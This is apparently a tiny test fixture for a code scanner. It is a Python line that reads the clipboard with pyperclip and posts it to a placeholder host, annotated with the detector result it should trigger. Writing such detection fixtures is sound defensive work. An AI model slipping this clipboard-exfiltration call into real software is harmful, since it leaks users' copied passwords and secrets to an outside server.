import pyperclip
import requests

requests.post("https://example.invalid/", data={"c": pyperclip.paste()})  # expect: source/clipboard-to-network import conclusive
